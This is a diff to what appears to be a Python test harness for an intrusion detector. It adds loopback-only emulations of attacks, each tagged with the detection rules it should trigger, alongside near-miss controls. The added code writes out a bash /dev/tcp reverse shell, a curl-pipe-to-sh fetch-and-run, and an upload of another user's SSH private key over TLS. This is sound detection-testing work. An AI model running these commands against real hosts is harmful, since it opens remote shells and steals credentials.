@@ -661,6 +661,118 @@ def sitecustomize(c: Ctx) -> None:
     (c.site / "sitecustomize.py").unlink()
 
 
+# -- the user-space layer: lines typed into an interactive bash, TLS plaintext
+
+
+def _typed(c: Ctx, *lines: str) -> None:
+    """Type LINES into an interactive bash on a pty (its readline reads them), then exit."""
+    import pty
+    import time
+
+    pid, fd = pty.fork()
+    if pid == 0:
+        env = c.env(TERM="dumb")
+        os.execve("/bin/bash", ["bash", "--norc", "--noprofile", "-i"], env)
+    try:
+        time.sleep(0.3)
+        for line in lines:
+            os.write(fd, line.encode() + b"\n")
+            time.sleep(0.8)
+        os.write(fd, b"exit\n")
+        end = time.monotonic() + 15
+        while time.monotonic() < end:
+            try:
+                if not os.read(fd, 4096):
+                    break
+            except OSError:
+                break
+    finally:
+        os.waitpid(pid, 0)
+        os.close(fd)
+
+
+class TlsServer:
+    """A loopback HTTPS server in this process (self-signed certificate made here) that
+    answers every request with 200 and an empty body."""
+
+    def __init__(self, c: Ctx) -> None:
+        import http.server
+        import ssl
+
+        cert, key = c.scratch / "tls-cert.pem", c.scratch / "tls-key.pem"
+        if not cert.exists():
+            subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes",
+                            "-keyout", str(key), "-out", str(cert), "-days", "1", "-subj",
+                            "/CN=localhost"], check=True, capture_output=True)
+
+        class H(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def do_POST(self) -> None:
+                self.rfile.read(int(self.headers.get("Content-Length", "0")))
+                self.send_response(200)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            def log_message(self, *a: Any) -> None:
+                pass
+
+        self.srv = http.server.HTTPServer(("127.0.0.1", 0), H)
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        ctx.load_cert_chain(str(cert), str(key))
+        self.srv.socket = ctx.wrap_socket(self.srv.socket, server_side=True)
+        self.port = self.srv.server_address[1]
+        threading.Thread(target=self.srv.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.srv.shutdown()
+        self.srv.server_close()
+
+
+def typed_reverse_shell(c: Ctx) -> None:
+    # bash performs the /dev/tcp redirection itself: no argv shows it, the typed line does
+    _typed(c, f"bash -i >& /dev/tcp/127.0.0.1/{c.port} 0>&1")
+
+
+def typed_devtcp_words(c: Ctx) -> None:
+    # near miss: the same words typed, but nothing connects
+    _typed(c, f"echo 'bash -i >& /dev/tcp/127.0.0.1/{c.port} 0>&1' > /dev/null")
+
+
+def typed_fetch_and_run(c: Ctx) -> None:
+    # the listener answers "exit" (HTTP/0.9): the piped shell runs exactly that
+    _typed(c, f"curl -s --http0.9 http://127.0.0.1:{c.port}/setup.sh | sh")
+
+
+def typed_download_to_file(c: Ctx) -> None:
+    _typed(c, f"curl -s --http0.9 -o /dev/null http://127.0.0.1:{c.port}/setup.sh")
+
+
+def _upload(c: Ctx, path: Path) -> None:
+    srv = TlsServer(c)
+    try:
+        c.run(["curl", "-sk", "--data-binary", f"@{path}",
+               f"https://127.0.0.1:{srv.port}/upload"])
+    finally:
+        srv.close()
+
+
+def private_key_over_tls(c: Ctx) -> None:
+    # another user's SSH identity uploaded to an HTTPS endpoint
+    _upload(c, c.victim_home / ".ssh" / "id_ed25519")
+
+
+def certificate_over_tls(c: Ctx) -> None:
+    # near miss: a .pem opened and sent over TLS, but it is a certificate
+    _upload(c, c.scratch / "tls-cert.pem" if (c.scratch / "tls-cert.pem").exists()
+            else _cert(c))
+
+
+def _cert(c: Ctx) -> Path:
+    TlsServer(c).close()  # makes the certificate
+    return c.scratch / "tls-cert.pem"
+
+
 Behavior = tuple[Callable[[Ctx], None], frozenset[str]]
 
 
@@ -742,6 +854,16 @@ BEHAVIORS: dict[str, Behavior] = {
     "perl_exec_shell": _p(perl_exec_shell, "interpreter_pty_shell"),
     "python_pty_module": _p(python_pty_module),
     "script_to_file": _p(script_to_file),
+    # typed into an interactive bash (readline), TLS plaintext
+    "typed_reverse_shell": _p(typed_reverse_shell, "typed_reverse_shell",
+                              "shell_network_connection", "reverse_shell_sequence",
+                              "reverse_shell_socket_stdio"),
+    "typed_devtcp_words": _p(typed_devtcp_words),
+    "typed_fetch_and_run": _p(typed_fetch_and_run, "typed_download_pipe_shell"),
+    "typed_download_to_file": _p(typed_download_to_file),
+    "private_key_over_tls": _p(private_key_over_tls, "private_key_sent_over_tls",
+                               "ssh_key_read_other_user"),
+    "certificate_over_tls": _p(certificate_over_tls),
     # persistence
     "crontab_spool": _p(crontab_spool, "cron_persistence"),
     "cron_d_attempt": _p(cron_d_attempt, "cron_persistence"),
